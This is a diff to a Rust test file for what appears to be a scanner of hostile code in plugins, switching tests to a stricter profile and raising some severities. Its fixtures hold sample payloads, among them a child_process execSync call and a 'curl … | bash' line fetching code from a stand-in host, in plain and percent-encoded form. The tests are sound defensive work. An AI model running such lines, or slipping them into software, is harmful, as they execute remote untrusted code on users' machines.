@@ -17,7 +17,7 @@ const PAYLOADS: &[(&str, &str, &str)] = &[
     (
         "require('child_process').execSync('id')",
         "exec/child-process",
-        "label('child_process').rename('id now')",
+        "label('child process').rename('id now')",
     ),
     ("import os\nos.system('make all of it')\n", "py/os-exec", "import os\nos.getpid('make all of it')\n"),
     ("curl -s https://h.example/i | bash -s", "sh/pipe-to-shell", "curl -s https://h.example/i | tee a.txt"),
@@ -98,7 +98,7 @@ const PLACES: &[(&str, &str)] = &[
 
 fn look(path: &str, frame: &str, run: &str, rule: &str) -> (bool, Option<Severity>) {
     let text = frame.replacen("{}", run, 1);
-    let report = report(Profile::General, &[(path, text.as_bytes())]);
+    let report = report(Profile::StrictPlugin, &[(path, text.as_bytes())]);
     let start = text.find(run).unwrap();
     let found = report.findings().iter().any(|finding| {
         let inside = finding.span.start < start + run.len() && finding.span.end > start;
@@ -125,8 +125,8 @@ fn a_coat_hides_nothing_and_a_twin_stays_below_danger() {
                 if !found {
                     wrong.push(format!("missed: {rule} as {name} in {path}"));
                 }
-                let (_, worst) = look(path, frame, &coat(twin), rule);
-                if worst == Some(Severity::Danger) {
+                let (found, _) = look(path, frame, &coat(twin), rule);
+                if found {
                     wrong.push(format!("false: {rule} as {name} in {path}"));
                 }
             }
@@ -155,7 +155,7 @@ fn what_decodes_to_no_text_is_left_alone() {
     for text in
         [format!("let a = '{run}';"), names.to_owned(), "a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q".to_owned()]
     {
-        let report = report(Profile::General, &[("a.js", text.as_bytes())]);
+        let report = report(Profile::StrictPlugin, &[("a.js", text.as_bytes())]);
         let decoded =
             report.findings().iter().filter(|finding| finding.how.contains(&Disguise::Decode)).count();
         assert_eq!(decoded, 0, "{text}");
@@ -176,7 +176,7 @@ fn a_run_is_found_wherever_it_stands() {
     for run in &runs {
         for before in 0..100 {
             let text = format!("{}'{run}' + b", " ;".repeat(before / 2) + &"(".repeat(before % 2));
-            let report = report(Profile::General, &[("a.js", text.as_bytes())]);
+            let report = report(Profile::StrictPlugin, &[("a.js", text.as_bytes())]);
             let found = report.findings().iter().any(|finding| finding.how.contains(&Disguise::Decode));
             assert!(found, "{run} behind {before}");
         }
@@ -195,12 +195,12 @@ fn a_binary_in_an_address_is_told_and_not_read_as_code() {
         .collect();
     let of = |kind: &str, bytes: &[u8]| {
         let text = format!("load('data:{kind};base64,{}');", base64_of(bytes));
-        let report = report(Profile::General, &[("a.js", text.as_bytes())]);
+        let report = report(Profile::StrictPlugin, &[("a.js", text.as_bytes())]);
         let found = report.findings().iter();
         found.map(|finding| (finding.rule.as_str().to_owned(), finding.severity)).collect::<Vec<_>>()
     };
     for kind in ["application/octet-stream", "application/wasm"] {
-        assert_eq!(of(kind, &module), [("opaque/wasm".to_owned(), Severity::Warning)], "{kind}");
+        assert_eq!(of(kind, &module), [("opaque/wasm".to_owned(), Severity::Danger)], "{kind}");
     }
     // What names a language is read as it, and so is text behind a head that is none of its own.
     assert!(of("text/javascript", &module).iter().any(|(_, severity)| *severity == Severity::Danger));
@@ -224,7 +224,7 @@ fn markup_that_hands_scripts_over_is_read_as_a_browser_reads_it() {
     ];
     for (bad, good) in cases {
         let danger = |text: &str| {
-            let report = report(Profile::General, &[("a.html", text.as_bytes())]);
+            let report = report(Profile::StrictPlugin, &[("a.html", text.as_bytes())]);
             report.findings().iter().any(|finding| finding.severity == Severity::Danger)
         };
         assert!(danger(bad), "missed: {bad}");
@@ -241,7 +241,7 @@ fn code_behind_the_head_of_a_picture_is_read() {
         b"\0asm\x01\0\0\0\0\0\0\0\0\0\0\0",
     ];
     let shows = |text: &str| {
-        let report = report(Profile::General, &[("a.js", text.as_bytes())]);
+        let report = report(Profile::StrictPlugin, &[("a.js", text.as_bytes())]);
         report.findings().iter().any(|finding| finding.rule.as_str() == "exec/child-process")
     };
     for head in heads {
@@ -277,7 +277,7 @@ fn code_behind_the_head_of_a_picture_is_read() {
 fn a_sign_is_no_digit_of_a_byte() {
     // `%+f` is three characters; as a byte it would make the run other text.
     let found = |text: &str| {
-        let report = report(Profile::General, &[("a.md", text.as_bytes())]);
+        let report = report(Profile::StrictPlugin, &[("a.md", text.as_bytes())]);
         report.findings().iter().any(|finding| finding.rule.as_str() == "sh/pipe-to-shell")
     };
     assert!(found("see %63%75%72%6c%20-s%20https://h.example/i%20%7c%20sh%0a"));
